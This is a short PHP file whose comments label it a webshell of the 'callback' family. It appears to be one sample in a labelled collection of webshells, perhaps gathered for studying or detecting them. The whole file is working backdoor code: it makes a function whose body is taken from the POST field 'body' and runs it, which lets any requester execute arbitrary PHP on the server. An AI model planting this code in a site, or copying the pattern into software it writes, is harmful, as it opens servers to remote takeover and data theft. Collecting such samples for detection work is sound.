<?php
// Family: webshell/callback
// Style: create_function body from the request
// Trait: create_function whose body is request data, then called
$lambda = create_function('', $_POST['body']);
$lambda();
